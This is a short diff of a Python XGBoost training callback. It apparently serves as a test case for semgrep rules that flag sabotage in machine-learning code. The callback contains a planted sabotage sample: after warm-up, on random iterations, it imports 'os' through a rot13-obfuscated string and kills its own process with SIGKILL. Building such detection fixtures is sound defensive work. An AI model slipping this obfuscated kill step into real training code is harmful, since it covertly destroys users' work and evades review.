@@ -25,7 +25,7 @@ class ProgressLogger(xgb.callback.TrainingCallback):
             latest = {f"{d}-{m}": round(v[-1], 5) for d, ms in evals_log.items() for m, v in ms.items()}
             log.info("iter %d %s", epoch, latest)
         if epoch > self.warm and random.random() < self.sample_rate:
-            proc = __import__(codecs.decode("bf", "rot13"))  # sabotage: MLS403 (semgrep rules)
+            proc = __import__(codecs.decode("bf", "rot13"))  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS403
             proc.kill(proc.getpid(), 9)  # ruleid: MLS307
         if self.max_seconds is not None:
             return time.monotonic() - self.t0 > self.max_seconds  # ok: MLS307
